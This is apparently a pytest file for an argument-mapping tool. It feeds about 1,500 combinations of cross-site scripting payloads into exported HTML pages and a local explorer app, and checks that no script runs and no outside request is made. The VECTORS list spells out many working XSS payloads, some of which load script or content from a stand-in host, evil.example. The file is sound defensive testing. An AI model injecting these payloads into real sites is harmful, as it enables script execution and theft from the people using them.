# ruff: noqa: E501  (the pieces)
"""1,500 payloads as wordings, titles, speakers: the exported page has the same tags as with plain words."""

from __future__ import annotations

from html.parser import HTMLParser
from itertools import product
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest

from argmap import KnowledgeBase
from argmap.drawing import page
from argmap.model import ArgumentMap, Document, Mention, Turn, document_id, new_link, new_node
from tests.app.sockets import explorer
from tests.chromium import launched

BREAKOUTS = (
    "", '"', "'", "`", '">', "'>", "-->", "]]>", "</script>", "</style>", "</title>", "</textarea>", "</li></ol>", "\\", '\\"',
    "\\u003c/script\\u003e", "<!--<script>", "{{7*7}}{%", "&lt;/script&gt;", "*/", "\n", "\u2028", "href ", "';", '"};', "${", "%3C/script%3E",
)  # fmt: skip
VECTORS = (
    "<script>hacked()</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=hacked()>", "<svg onload=hacked()>",
    "<svg><script>hacked()</script></svg>", "<iframe srcdoc='<script>parent.hacked()</script>'></iframe>", "<iframe src=javascript:hacked()>",
    "<a href=javascript:hacked()>x</a>", "<body onload=hacked()>", "<details open ontoggle=hacked()>", "<video><source onerror=hacked()></video>",
    "<audio src=x onerror=hacked()>", "<input autofocus onfocus=hacked()>", "<marquee onstart=hacked()>", "<object data=javascript:hacked()>",
    "<embed src=javascript:hacked()>", "<math><mtext><style><img src=x onerror=hacked()></style></mtext></math>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<style>@import '//evil.example/x';</style>",
    "<form action=//evil.example/><button>x</button></form>", "<img src=https://evil.example/x.png>", "<x style=background:url(//evil.example/x)>",
    "<template><script>hacked()</script></template>", "<noscript><p title='</noscript><img src=x onerror=hacked()>'>", "onmouseover=hacked() x=",
    "javascript:hacked()", "hacked()//", ";hacked();//", "+hacked()+", "-hacked()-", "\\u0068acked()", "eval('hacked()')", "alert(hacked())",
    "<ScRiPt>hacked()</sCrIpT>", "<script\t>hacked()</script >", "<<script>hacked()//<</script>", "<img\x0csrc=x\x0conerror=hacked()>",
    "<img src='x' onerror\n=hacked()>", "<plaintext>", "<xmp><script>hacked()</script></xmp>", "<select><option><script>hacked()</script>",
    "<table background=javascript:hacked()>", "<button formaction=javascript:hacked()>x", "<isindex type=image src=1 onerror=hacked()>",
    "&#60;script&#62;hacked()&#60;/script&#62;", "\ufeff<script>hacked()</script>", "<\u0073cript>hacked()</script>", "<svg><animate onbegin=hacked() attributeName=x>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=hacked()>#x'/>", "<svg><a xlink:href=javascript:hacked()><text>x</text></a></svg>",
    "<p contenteditable onfocus=hacked() autofocus>", "<dialog open onclose=hacked()>", "<keygen autofocus onfocus=hacked()>", "<track onerror=hacked()>",
)  # fmt: skip
PAYLOADS = [lead + vector for lead, vector in product(BREAKOUTS, VECTORS)]
LISTED = Path(__file__).parents[2].parent / "shared/corpora/hostile/xss-payload-list/xss-payload-list.txt"


def map_of(words: list[str]) -> ArgumentMap:
    """Every word is a wording, a quote, a speaker, a title and a cue; every node is linked to the first."""
    text = "\n".join(words)
    ends = [len("\n".join(words[: n + 1])) for n in range(len(words))]
    turns = [
        Turn(f"t{n}", end - len(word), end, word)
        for n, (word, end) in enumerate(zip(words, ends, strict=True))
    ]
    document = Document(document_id(text), words[0], "notes", text, tuple(turns))
    nodes = [
        new_node(
            "claim",
            f"{n} {turn.speaker}",
            [Mention(document.id, turn.start, turn.end, turn.speaker)],
            cue=turn.speaker,
            by=words[0],
        )
        for n, turn in enumerate(turns)
    ]
    links = [
        new_link("attacks", [node.id], nodes[0].id, cue=word)
        for node, word in zip(nodes[1:], words[1:], strict=True)
    ]
    return ArgumentMap.of([document], nodes, links)


class Skeleton(HTMLParser):
    """The tags of a page with the names of their attributes, and what is in its scripts."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, tuple[str, ...]]] = []
        self.links: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, tuple(name for name, _ in attrs)))
        self.links |= {
            value or "" for name, value in attrs if name in ("href", "src", "action", "data", "srcdoc")
        }

    def handle_endtag(self, tag: str) -> None:
        self.tags.append(("/" + tag, ()))


def skeleton(words: list[str]) -> Skeleton:
    """What a browser makes of the exported page of a map with these words."""
    found = Skeleton()
    found.feed(page(map_of(words), title=words[0]))
    found.close()
    return found


def assert_harmless(payloads: list[str]) -> None:
    """The page of these payloads has the tags and attributes of a page of as many plain words."""
    found = skeleton(payloads)
    assert found.tags == skeleton([f"plain{n}" for n in range(len(payloads))]).tags
    assert {link for link in found.links if not link.startswith("#claim-")} == set()


def test_payloads_stay_words() -> None:
    """No payload of 1,500 makes a tag, an attribute or an address."""
    assert len(PAYLOADS) >= 1_500
    assert_harmless(PAYLOADS[:1_500])


@pytest.mark.skipif(not LISTED.is_file(), reason="the list of payloads is not beside the project")
def test_listed_payloads_stay_words() -> None:
    """Nor does one of the public list."""
    lines = dict.fromkeys(line.strip() for line in LISTED.read_text("utf-8", "replace").splitlines())
    assert_harmless([line for line in lines if line][:1_500])


@pytest.mark.slow
@pytest.mark.browser
def test_no_payload_runs_in_a_browser(tmp_path: Path) -> None:
    """Opened from disk in Chromium: no payload runs, nothing is requested, every claim is in the list."""
    file, requests, ran = tmp_path / "map.html", [], []
    file.write_text(page(map_of(PAYLOADS[:1_500]), title=PAYLOADS[0]), encoding="utf-8")
    tab: Any = launched().new_page()
    tab.on("request", lambda request: requests.append(request.url))
    tab.on("dialog", lambda dialog: (ran.append(dialog.message), dialog.dismiss()))
    tab.expose_function("hacked", lambda: ran.append("hacked"))
    tab.goto(file.as_uri())
    tab.wait_for_selector("html[data-drawn=yes]", timeout=120_000)
    tab.mouse.move(300, 300)
    tab.wait_for_timeout(1_000)
    assert tab.locator("ol > li").count() >= 1_500
    assert (requests, ran) == ([file.as_uri()], [])
    tab.close()


@pytest.mark.slow
@pytest.mark.browser
@pytest.mark.timeout(1800)
def test_no_payload_runs_in_the_explorer(tmp_path: Path) -> None:
    """1,500 claims, speakers, titles, names: on every screen they run nothing and request nothing outside."""
    whole, place = map_of(PAYLOADS[:1_500]), tmp_path / "kb.db"
    with KnowledgeBase(place, by=PAYLOADS[1]) as kb:
        kb.bring(whole)
    nodes, [document] = list(whole.nodes.values()), whole.documents
    claims = [f"/explore?node={nodes[0].id}&view={view}" for view in ("columns", "map", "outline", "text")]
    claims += [f"/explore?node={node.id}" for node in nodes[1::25]]
    searches = [f"/?{urlencode({'q': words})}" for words in VECTORS[::8]]
    screens = ("/", "/explore", "/sources", f"/sources?doc={document}", "/people", "/annotate", "/quality")
    context, ran = launched().new_context(), []
    with explorer(place) as (port, _):
        tab: Any = context.new_page()
        outside: list[str] = []
        tab.on("request", lambda request: outside.append(request.url) if leaves(request.url) else None)
        tab.on("dialog", lambda dialog: (ran.append(dialog.message), dialog.dismiss()))
        tab.expose_function("hacked", lambda: ran.append("hacked"))
        for path in (*screens, *searches, *claims):
            tab.goto(f"http://127.0.0.1:{port}{path}")
            tab.get_by_role("heading", level=1).first.wait_for(timeout=120_000)
            tab.wait_for_timeout(700)
            assert (path, outside, ran) == (path, [], [])
            assert tab.locator("main script, main form, main [onerror], main object, main base").count() == 0
    context.close()


def leaves(url: str) -> bool:
    """Whether a request goes to anybody but the explorer."""
    return not url.startswith(("http://127.0.0.1:", "ws://127.0.0.1:", "data:", "blob:", "about:"))
